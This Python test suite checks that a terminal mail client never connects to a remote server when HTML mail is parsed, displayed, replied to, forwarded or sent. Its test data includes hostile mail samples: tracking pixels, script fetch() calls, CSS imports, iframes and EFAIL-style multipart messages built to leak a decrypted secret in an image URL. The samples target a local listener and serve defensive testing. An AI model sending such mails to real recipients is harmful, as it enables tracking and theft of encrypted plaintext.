"""No remote content: HTML mail that points at a server (images, CSS imports and
url(), iframes, meta refresh, stylesheets, media posters, objects, the EFAIL
multipart layout) makes no connection while it is listed, viewed in every mode,
replied to, forwarded inline and as an attachment, and sent.

The "remote" server is a TCP listener on 127.0.0.1 at a random port that counts
every connection; every reference in the mail names it. The listener runs in its
own thread, so it would see a connection made from any thread or process.
"""

from __future__ import annotations

import socket
import sys
import threading
from collections.abc import Iterator
from email.headerregistry import Address
from pathlib import Path

import pytest
from msgspec.structs import replace

from hostile.maildir_app import SIZE, fill, maildir_config, select, wait_for
from hostile.scripted import screen_text
from tui_mail.compose.build import build_message, message_bytes
from tui_mail.compose.reply import forward_inline, reply
from tui_mail.config.schema import AccountConfig, EndpointConfig
from tui_mail.store.parse import parse_message as index_parse
from tui_mail.ui.app import MailApp
from tui_mail.ui.dialogs.attachments import AttachmentScreen
from tui_mail.ui.mime import parse_message
from tui_mail.ui.screens.compose import ComposeScreen
from tui_mail.ui.screens.compose_session import ComposeSession, initial_draft
from tui_mail.ui.widgets.message_view import MessageView, plain_links

SECRET = "SECRETPLAINTEXT"


class Listener:
    """Accepts and counts connections on 127.0.0.1:<random port> until closed."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.connections.append(conn.recv(4096))
                except OSError:
                    self.connections.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()


def _probe(listener: Listener) -> None:
    """The listener really counts: one connection of our own, then reset."""
    with socket.create_connection(("127.0.0.1", listener.port), timeout=5):
        pass
    for _ in range(100):
        if listener.connections:
            break
        threading.Event().wait(0.02)
    assert len(listener.connections) == 1
    listener.connections.clear()


def _html_mail(n: int, subject: str, html: str) -> bytes:
    return (
        f"From: Newsletter <news@shop.test>\r\nTo: alice@example.test\r\n"
        f"Subject: {subject}\r\nDate: Mon, 03 Nov 2025 10:00:{n:02d} +0000\r\n"
        f"Message-ID: <remote-{n}@shop.test>\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    ).encode()


def remote_mails(base: str) -> dict[str, bytes]:
    """Every way an HTML mail can ask for something from `base`."""
    pages = {
        "img": f'<p>Hello</p><img src="{base}/pixel.gif" width=1 height=1 alt="">',
        "img-srcset": f'<img srcset="{base}/a.png 1x, {base}/b.png 2x" alt="logo">',
        "css-import": f'<style>@import url("{base}/a.css"); @import "{base}/b.css";</style>x',
        "css-url": f'<div style="background:url({base}/bg.png)">styled</div>'
        f"<style>body {{ background-image: url('{base}/body.png') }}</style>",
        "iframe": f'<iframe src="{base}/frame.html" width=0 height=0></iframe><p>frame</p>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0; url={base}/refresh"><p>moved</p>',
        "link-stylesheet": f'<link rel="stylesheet" href="{base}/style.css"><p>linked</p>',
        "link-prefetch": f'<link rel=dns-prefetch href="{base}"><link rel=preload href="{base}/p">',
        "video-poster": f'<video poster="{base}/poster.jpg" src="{base}/v.mp4"></video><p>v</p>',
        "audio": f'<audio src="{base}/a.mp3" autoplay></audio><p>a</p>',
        "object-embed": f'<object data="{base}/o.swf"></object><embed src="{base}/e.swf">',
        "body-background": f'<body background="{base}/bg.gif"><p>old school</p></body>',
        "input-image": f'<form action="{base}/post"><input type="image" src="{base}/i.png"></form>',
        "svg-image": f'<svg><image href="{base}/s.png" /><use href="{base}/u.svg#x"/></svg>',
        "script": f'<script src="{base}/s.js"></script><script>fetch("{base}/f")</script><p>s</p>',
        "base-href": f'<base href="{base}/"><img src="relative.png"><a href="page">a link</a>',
        "picture-source": f'<picture><source srcset="{base}/p.webp"><img src="{base}/p.jpg">',
        "table-background": f'<table background="{base}/t.png"><tr><td>cell</td></tr></table>',
        "linked-image": f'<a href="{base}/click"><img src="{base}/banner.png" alt="Buy"></a>',
    }
    mails = {
        name: _html_mail(n, f"remote {name}", html) for n, (name, html) in enumerate(pages.items())
    }
    # EFAIL's direct exfiltration: an unclosed <img src=" in one part, the encrypted (or
    # any other) part after it, the closing quote in a third. Parts must not be joined.
    mails["efail"] = (
        "From: Attacker <a@evil.test>\r\nTo: alice@example.test\r\nSubject: remote efail\r\n"
        "Date: Mon, 03 Nov 2025 11:00:00 +0000\r\nMessage-ID: <remote-efail@evil.test>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="BOUNDARY"\r\n\r\n'
        "--BOUNDARY\r\nContent-Type: text/html\r\n\r\n"
        f'<img src="{base}/\r\n'
        '--BOUNDARY\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted";'
        ' boundary="ENC"\r\n\r\n'
        "--ENC\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
        "--ENC\r\nContent-Type: application/octet-stream\r\n\r\n"
        f"-----BEGIN PGP MESSAGE-----\r\n{SECRET}\r\n-----END PGP MESSAGE-----\r\n"
        "--ENC--\r\n"
        "--BOUNDARY\r\nContent-Type: text/plain\r\n\r\n"
        f"{SECRET} as a plain part\r\n"
        '--BOUNDARY\r\nContent-Type: text/html\r\n\r\n">\r\n'
        "--BOUNDARY--\r\n"
    ).encode()
    # The same split with the parts as alternatives of each other, and inside an attached
    # message: a viewer that concatenates parts would build the URL here too.
    mails["efail-alternative"] = (
        "From: Attacker <a@evil.test>\r\nTo: alice@example.test\r\n"
        "Subject: remote efail alternative\r\nDate: Mon, 03 Nov 2025 11:01:00 +0000\r\n"
        "Message-ID: <remote-efail-alt@evil.test>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="ALT"\r\n\r\n'
        f'--ALT\r\nContent-Type: text/html\r\n\r\n<img src="{base}/\r\n'
        f"--ALT\r\nContent-Type: text/plain\r\n\r\n{SECRET}\r\n"
        '--ALT\r\nContent-Type: text/html\r\n\r\n">\r\n--ALT--\r\n'
    ).encode()
    mails["related-cid-and-remote"] = (
        "From: Shop <news@shop.test>\r\nTo: alice@example.test\r\nSubject: remote related\r\n"
        "Date: Mon, 03 Nov 2025 11:02:00 +0000\r\nMessage-ID: <remote-related@shop.test>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="REL"\r\n'
        f"Content-Base: {base}/\r\nContent-Location: {base}/index.html\r\n\r\n"
        "--REL\r\nContent-Type: text/html\r\n\r\n"
        f'<img src="cid:logo@x"><img src="{base}/remote.png"><img src="logo.png">\r\n'
        "--REL\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--REL--\r\n"
    ).encode()
    mails["external-body"] = (
        "From: Shop <news@shop.test>\r\nTo: alice@example.test\r\nSubject: remote external\r\n"
        "Date: Mon, 03 Nov 2025 11:03:00 +0000\r\nMessage-ID: <remote-external@shop.test>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=URL;\r\n"
        f' URL="{base}/payload.bin"\r\n\r\nContent-Type: application/octet-stream\r\n\r\n'
    ).encode()
    mails["plain-with-urls"] = (
        "From: Friend <f@friend.test>\r\nTo: alice@example.test\r\nSubject: remote plain\r\n"
        "Date: Mon, 03 Nov 2025 11:04:00 +0000\r\nMessage-ID: <remote-plain@friend.test>\r\n"
        f"\r\nlook at {base}/page and <{base}/other>\r\n"
    ).encode()
    return mails


def _efail_urls(text: str, base: str) -> list[str]:
    """URLs in `text` that start with the listener's address and carry the secret."""
    return [u for u in plain_links(text) if u.startswith(base) and SECRET in u]


def test_parsing_and_indexing_never_connect(listener: Listener) -> None:
    _probe(listener)
    for name, raw in remote_mails(listener.base).items():
        parsed = parse_message(raw)
        index_parse(raw)
        body = MessageView.body_content(parsed).plain + MessageView.link_list(parsed).plain
        assert "pixel.gif" not in body, name  # images are shown as [image], never as URLs
        assert not _efail_urls(body, listener.base), (name, body)
        assert not any(SECRET in link for link in parsed.links), name
    assert listener.connections == []


def test_efail_parts_are_not_joined_into_one_url(listener: Listener) -> None:
    account = AccountConfig(
        "a", "alice@example.test", EndpointConfig("maildir"), EndpointConfig("local")
    )
    for name in ("efail", "efail-alternative"):
        raw = remote_mails(listener.base)[name]
        parsed = parse_message(raw)
        shown = "\n".join(
            [
                MessageView.header_content(parsed).plain,
                MessageView.body_content(parsed).plain,
                MessageView.link_list(parsed).plain,
                MessageView.attachment_content(parsed).plain,
            ]
        )
        assert not _efail_urls(shown, listener.base), shown
        assert not any(link.startswith(listener.base) for link in parsed.links), parsed.links
        for draft in (reply(raw, account), forward_inline(raw, account)):
            assert not _efail_urls(draft.body, listener.base), draft.body
    assert listener.connections == []


EDITOR = r"""
import sys
path = sys.argv[-1]
text = open(path, encoding="utf-8").read()
head, sep, body = text.partition("\n\n")
lines = ["To: bob@example.test" if l.startswith("To:") else l for l in head.split("\n")]
open(path, "w", encoding="utf-8").write("\n".join(lines) + "\n\n" + body)
"""


def _message_id(raw: bytes) -> str:
    line = next(x for x in raw.split(b"\r\n") if x.startswith(b"Message-ID: "))
    return line[len(b"Message-ID: ") :].decode()


async def _open_composer(pilot, key: str) -> ComposeScreen:  # type: ignore[no-untyped-def]
    app = pilot.app
    await pilot.press(key)
    await wait_for(pilot, lambda: isinstance(app.screen, ComposeScreen) and app.screen.edits > 0)
    screen = app.screen
    assert isinstance(screen, ComposeScreen) and not screen.session.error, screen
    return screen


async def test_viewing_every_mail_in_the_tui_never_connects(
    listener: Listener, tmp_path: Path
) -> None:
    """Each mail listed, opened, shown with all headers and as raw source, scrolled,
    its attachments listed; no connection, and no URL joined across EFAIL's parts."""
    _probe(listener)
    mails = remote_mails(listener.base)
    root = tmp_path / "Maildir"
    fill(root, mails.values())
    app = MailApp(maildir_config(root))
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: app.main.messages.count == len(mails))
        assert "remote" in screen_text(app)  # the list is drawn
        for raw in mails.values():
            select(app, _message_id(raw))
            await pilot.press("enter")
            await wait_for(pilot, lambda: app.main.view.parsed is not None)
            text = screen_text(app).replace("\n", "")
            assert not _efail_urls(text, listener.base), text
            await pilot.press("h", "E", "G")  # all headers, raw source, to the end
            await pilot.press("E")
            if app.main.view.parsed.attachments:
                await pilot.press("v")
                await wait_for(pilot, lambda: isinstance(app.screen, AttachmentScreen))
                await pilot.press("escape")
                await wait_for(pilot, lambda: app.screen is app.main)
            assert listener.connections == [], _message_id(raw)
            await pilot.press("escape")
    assert listener.connections == []


def test_every_answer_draft_is_built_without_connecting(listener: Listener) -> None:
    """What the composer starts from for each mail and mode (the same function the
    keys call), rendered to the editor's text and built into the bytes that would go
    out: no connection, and no URL joined across EFAIL's parts."""
    account = maildir_config(Path("/nonexistent")).accounts["hostile"]
    for name, raw in remote_mails(listener.base).items():
        for mode in ("reply", "reply_all", "forward", "forward_attached"):
            session = ComposeSession.start(account, mode, initial_draft(mode, account, raw))
            assert session.draft is not None, (name, mode, session.error)
            assert not _efail_urls(session.text, listener.base), (name, mode)
            draft = replace(session.draft, to=session.draft.to or (Address("", "bob", "x.test"),))
            sent = message_bytes(build_message(draft, account))
            assert not _efail_urls(sent.decode("utf-8", "replace"), listener.base)
    assert listener.connections == []


@pytest.mark.parametrize("name", ["efail", "img", "css-import", "meta-refresh", "iframe"])
async def test_replies_and_forwards_composed_and_sent_in_the_tui_never_connect(
    name: str, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By the keys: reply, reply-all, forward, forward as attachment, each composed (the
    quoted or attached HTML shown in the composer) and sent by local delivery."""
    editor = tmp_path / "editor.py"
    editor.write_text(EDITOR)
    monkeypatch.delenv("VISUAL", raising=False)
    monkeypatch.setenv("EDITOR", f"{sys.executable} {editor}")
    raw = remote_mails(listener.base)[name]
    root = tmp_path / "Maildir"
    fill(root, [raw])
    delivered = tmp_path / "delivered"
    app = MailApp(maildir_config(root))
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: app.main.messages.count == 1)
        await pilot.press("enter")
        await wait_for(pilot, lambda: app.main.view.parsed is not None)
        for key in ("r", "R", "f", "F"):
            screen = await _open_composer(pilot, key)
            assert not _efail_urls(screen_text(app).replace("\n", ""), listener.base)
            assert not _efail_urls(screen.session.text, listener.base)
            await pilot.press("y")
            await wait_for(pilot, lambda: app.screen is app.main)
        await wait_for(
            pilot, lambda: len([p for p in delivered.rglob("*") if p.is_file()]) >= 4, timeout=20
        )
    assert listener.connections == []
    for sent in (p for p in delivered.rglob("*") if p.is_file()):
        data = sent.read_bytes().decode("utf-8", "replace")
        assert not _efail_urls(data.replace("\r\n", ""), listener.base)
